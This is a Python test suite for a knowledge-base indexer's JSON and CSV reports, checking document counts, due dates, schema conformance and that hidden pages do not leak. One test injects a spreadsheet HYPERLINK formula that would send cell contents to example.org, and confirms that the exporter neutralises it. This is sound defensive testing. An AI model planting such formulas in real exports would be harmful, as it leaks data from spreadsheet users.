"""Both reports and the CSV: what they say of brains, and that neither tells of another repo."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator
from msgspec.structs import replace

from indexer.analysis.public_report import make_public_report
from indexer.analysis.report import make_report
from indexer.analysis.report_csv import render_documents_csv
from indexer.analysis.rows import make_rows
from indexer.cli.schema import find_schemas
from indexer.model.index_views import BuildRow, TrendPoint
from indexer.model.result import IndexResult
from indexer.store.read import open_index
from indexer.store.write import write_index
from tests.tools.judged import FIRM, TODAY, judge
from tests.tools.repos import DAY
from tests.tools.results import make_result

HIDDEN = "---\nprivate: true\nchecked: 2026-11-01\ncheckedBy: Canary\n---\nCanary."


def find(report: dict[str, Any], brain: str, document: str) -> dict[str, Any]:
    (found,) = [one for each in report["brains"] if each["id"] == brain for one in each["documents"] if one["id"] == document]
    return dict(found)


def age(result: IndexResult, committed_at: int | None) -> IndexResult:
    return replace(result, snapshot=replace(result.snapshot, committed_at=committed_at))


@pytest.mark.req("P11", "S06", "S07")
def test_the_report_counts_documents_by_ring_and_state() -> None:
    report = make_report(judge(FIRM))
    firm, site = report["brains"]
    assert report["date"] == TODAY
    assert (firm["id"], firm["title"], firm["type"], firm["blueprint"], firm["card"]) == (
        "brain/firm",
        "The firm",
        "firm",
        "firm@1",
        "firm/brain.md",
    )
    assert firm["depth"] == [
        {
            "ring": "Public Context",
            "stage": "Scope",
            "documents": 2,
            "filled": 2,
            "checked": 1,
            "declined": 0,
            "outOfDate": 1,
            "missing": 0,
        },
        {
            "ring": "Organisational Knowledge",
            "stage": "Land",
            "documents": 1,
            "filled": 0,
            "checked": 0,
            "declined": 1,
            "outOfDate": 0,
            "missing": 0,
        },
    ]
    assert report["totals"] == {
        "brains": 2,
        "documents": 6,
        "filled": 3,
        "checked": 2,
        "declined": 1,
        "outOfDate": 1,
        "missing": 2,
    }
    assert firm["dropped"] == [{"id": "tools", "file": "tools.md", "title": "Tools", "reason": "We use none."}]
    assert site["parent"] == "brain/firm"


@pytest.mark.req("P11", "S06")
def test_a_document_says_all_that_an_owner_needs_to_act() -> None:
    report = make_report(judge(FIRM))
    offer = find(report, "brain/firm", "offer")
    assert (offer["state"], offer["path"], offer["page"], offer["owner"]) == ("checked", "firm/offer.md", "firm/offer.md", "Bo")
    assert (offer["checked"], offer["checkedBy"], offer["due"], offer["summary"]) == ("2026-11-01", "Ada", "2027-02-10", "What we sell.")
    price = find(report, "brain/firm", "price")
    assert (price["state"], price["due"]) == ("outOfDate", "2026-04-12")
    people = find(report, "brain/firm", "people")
    assert (people["state"], people["declined"], people["due"]) == ("declined", "Everybody knows everybody.", None)
    shop = find(report, "brain/site", "shop")
    assert (shop["state"], shop["path"], shop["page"], shop["asks"]) == ("missing", "site/shop.md", None, "What is shop?")


@pytest.mark.req("S08")
def test_a_missing_document_names_what_the_parent_has_unless_that_is_out_of_date() -> None:
    cover = {"brain": "brain/firm", "title": "Price", "path": "firm/price.md", "state": "checked", "deepens": [3]}
    assert find(make_report(judge(FIRM, "2026-03-01")), "brain/site", "shop")["parentCovers"] == [cover]
    assert find(make_report(judge(FIRM)), "brain/site", "shop")["parentCovers"] == []


@pytest.mark.req("S16")
def test_documents_that_disagree_are_named_with_their_paths() -> None:
    firm, site = make_report(judge(FIRM))["brains"]
    assert firm["conflicts"] == []
    (conflict,) = site["conflicts"]
    assert [(claim["path"], claim["value"]) for claim in conflict["claims"]] == [("site/home.md", "90"), ("firm/price.md", "80")]


@pytest.mark.req("S08", "X01")
@pytest.mark.parametrize("make", [make_report, make_public_report])
def test_a_parent_elsewhere_is_not_named_and_covers_nothing(make: Any) -> None:
    card = "---\ntitle: The site\nblueprint: site@7\nparent: canary/firm\n---\n"
    with_parent, without = (
        judge({**FIRM, "site/brain.md": card}),
        judge({**FIRM, "site/brain.md": card.replace("parent: canary/firm\n", "")}),
    )
    assert make(with_parent)["brains"] == make(without)["brains"]
    assert "canary" not in json.dumps(make(with_parent))


@pytest.mark.req("P11")
@pytest.mark.parametrize(("date", "due"), [("2026-11-12", []), ("2026-11-13", [30]), ("2026-12-12", [1]), ("2026-12-13", [])])
def test_what_falls_out_of_date_within_thirty_days_is_announced(date: str, due: list[int]) -> None:
    files = {"firm/brain.md": FIRM["firm/brain.md"], "firm/offer.md": "---\nchecked: 2026-09-03\ncheckedBy: Ada\n---\nx"}
    found = make_report(judge(files, date))["dueSoon"]
    assert [each["days"] for each in found] == due
    assert [(each["brain"], each["id"], each["path"], each["due"]) for each in found] == [
        ("brain/firm", "offer", "firm/offer.md", "2026-12-13")
    ] * len(due)


@pytest.mark.req("P11")
def test_without_a_date_nothing_ages() -> None:
    report = make_report(judge(FIRM, None))
    assert (report["date"], report["totals"]["outOfDate"], report["totals"]["checked"], report["dueSoon"]) == (None, 0, 3, [])


def test_without_a_date_the_day_of_the_commit_counts() -> None:
    from indexer.analysis.index import judge_brains

    committed = age(make_result({"a.md": ""}), 1_796_083_199)
    assert judge_brains(committed, {}).date == "2026-11-30"
    assert judge_brains(committed, {}, "2026-01-01").date == "2026-01-01"
    assert judge_brains(age(committed, 2**62), {}).date is None


@pytest.mark.req("P11")
def test_stale_pages_are_those_of_the_view(tmp_path: Path) -> None:
    now = 1_790_000_000
    changes = {"a.md": now - 364 * DAY, "b.md": now - 365 * DAY, "c.md": now - 900 * DAY, "d.md": now + DAY, "s.md": now - 900 * DAY}
    files = {"a.md": "", "b.md": "", "c.md": "# Old", "d.md": "", "unknown.md": "", "s.md": HIDDEN}
    result = age(make_result(files, changes=changes, revision="a" * 40), now)
    write_index(tmp_path / "index.duckdb", [make_rows(result)])
    with open_index(tmp_path / "index.duckdb") as reader:
        stale = [{"path": page.path, "title": page.title, "days": page.days} for page in reader.fetch_stale_pages("brain")]
    assert make_report(result)["stale"] == stale == make_public_report(result)["stale"]
    assert [page["path"] for page in stale] == ["c.md", "b.md"]
    assert make_report(age(result, None))["stale"] == []


@pytest.mark.req("P19")
def test_the_public_report_is_that_of_a_repo_without_its_hidden_pages() -> None:
    hidden = {
        "firm/people.md": HIDDEN,
        "secret/brain.md": "---\nprivate: true\ntitle: Canary\nblueprint: firm@1\n---\n",
        "secret/offer.md": "x",
    }
    shown = {**{path: text for path, text in FIRM.items() if path != "firm/people.md"}, "index.md": "x", "secret/offer.md": "x"}
    with_hidden = make_public_report(judge({**shown, **hidden}))
    assert with_hidden == make_public_report(judge(shown))
    assert "anary" not in json.dumps(with_hidden)
    assert find(with_hidden, "brain/firm", "people")["state"] == "missing"
    assert "trend" not in with_hidden
    assert "hidden" not in with_hidden
    assert make_report(judge({**shown, **hidden}))["hidden"] == ["firm/people.md", "secret/brain.md"]


@pytest.mark.req("S12")
def test_a_card_with_an_unknown_blueprint_has_no_depth_and_a_warning() -> None:
    (brain,) = make_report(judge({"x/brain.md": "---\nblueprint: nothing@1\n---\n"}))["brains"]
    assert (brain["depth"], brain["documents"]) == (None, [])
    assert "nothing@1" in brain["warnings"][0]


def make_point(revision: str, figures: dict[str, int]) -> TrendPoint:
    return TrendPoint(BuildRow(revision * 40, 1_790_000_000, 9, 1, 100, 5, 4, 2, 3, 1, 0, 0, 0), figures)


@pytest.mark.req("P11")
def test_the_trend_shows_each_build_with_and_without_brains() -> None:
    figures = {"documents": 6, "documents filled": 3, "documents missing": 3}
    trend = make_report(judge(FIRM), [make_point("a", {}), make_point("b", figures)])["trend"]
    assert trend[0] == {"revision": "a" * 40, "date": "2026-09-21", "pages": 9, "documents": None, "brokenLinks": 2, "orphans": 3}
    assert trend[1]["documents"] == {"documents": 6, "filled": 3, "checked": 0, "declined": 0, "outOfDate": 0, "missing": 3}


@pytest.mark.req("P11")
@pytest.mark.parametrize("name", ["report", "site-report"])
def test_reports_fit_their_schemas_which_describe_every_key(name: str) -> None:
    now = 1_796_000_000
    files = {**FIRM, "y/brain.md": "---\nblueprint: nothing@1\n---\n", "s.md": HIDDEN, "a.md": "[[gone]]"}
    result = judge({**files, "firm/people.md": "---\nchecked: 2026-08-30\ncheckedBy: Cy\n---\nText."})
    result = replace(age(result, now), history=make_result(files, changes={"a.md": now - 500 * DAY}).history)
    made = make_report(result, [make_point("a", {"documents": 1})]) if name == "report" else make_public_report(result)
    shown = json.loads(json.dumps(made))
    assert all(shown[key] for key in ("brains", "dueSoon", "stale", "findings"))
    schema = json.loads(find_schemas()[name].read_text("utf-8"))
    Draft202012Validator(schema).validate(shown)
    Draft202012Validator(close(schema)).validate(shown)


def close(schema: Any) -> Any:
    """Return a schema that refuses every key it does not describe."""
    if isinstance(schema, list):
        return [close(each) for each in schema]
    if not isinstance(schema, dict):
        return schema
    closed = {key: close(value) for key, value in schema.items()}
    return {**closed, "additionalProperties": False} if "properties" in closed and "type" in closed else closed


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.req("P11")
def test_the_csv_has_one_row_per_document() -> None:
    text = render_documents_csv(judge(FIRM))
    rows = read_csv(text)
    assert text.startswith("brain,id,title,ring,stage,state,path,owner,checked,checkedBy,due,declined,asks\r\n")
    assert text.count("\r\n") == text.count("\n") == len(rows) + 1 == 7
    assert [(row["brain"], row["id"], row["state"], row["path"]) for row in rows] == [
        ("brain/firm", "offer", "checked", "firm/offer.md"),
        ("brain/firm", "price", "out of date", "firm/price.md"),
        ("brain/firm", "people", "declined", "firm/people.md"),
        ("brain/site", "home", "checked", "site/home.md"),
        ("brain/site", "shop", "missing", "site/shop.md"),
        ("brain/site", "news", "missing", "site/news.md"),
    ]
    assert (rows[0]["due"], rows[2]["declined"], rows[4]["asks"]) == ("2027-02-10", "Everybody knows everybody.", "What is shop?")


@pytest.mark.threat(16)
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "＝"])
def test_no_cell_of_the_csv_is_a_formula(start: str) -> None:
    (brain, _) = judge(FIRM).brains
    cell = f'{start}HYPERLINK("http://example.org/?"&A1,"a, b")\nnext'
    odd = replace(brain, documents=(replace(brain.documents[0], owner=cell, checked_by="half \ud800"),))
    text = render_documents_csv(replace(judge(FIRM), brains=(odd,)))
    (row,) = read_csv(text)
    assert row["owner"] == f"'{cell}"
    assert row["checkedBy"] == "half \\ud800"
    text.encode("utf-8")
